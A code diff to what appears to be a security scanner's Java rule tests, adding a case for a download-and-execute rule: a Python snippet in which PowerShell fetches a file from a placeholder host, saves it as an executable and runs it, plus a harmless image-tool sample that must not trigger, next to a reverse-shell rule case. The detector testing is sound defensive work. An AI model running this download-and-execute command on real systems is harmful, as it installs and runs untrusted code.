@@ -103,6 +103,15 @@ class BuiltinRulesTest {
             version = requests.get("https://example.invalid/version.json").json()
             subprocess.run(["git", "status"])
             """),
+        new Case("AIRLOCK-DOWNLOAD-EXEC", Severity.HIGH, "demo/demo/win.py", 3, """
+            import subprocess
+            subprocess.run(["powershell", "-c",
+                "Invoke-WebRequest https://example.invalid/a.bin -OutFile $env:TEMP\\a.exe; Start-Process a.exe"])
+            """, "demo/demo/jpeg.py", """
+            import subprocess
+            # an image tool's own -outfile flag is not a download
+            subprocess.check_call(["djpeg", "-outfile", path, filename])
+            """),
         new Case("AIRLOCK-REVERSE-SHELL", Severity.HIGH, "demo/demo/net.py", 5, """
             import os
             import socket
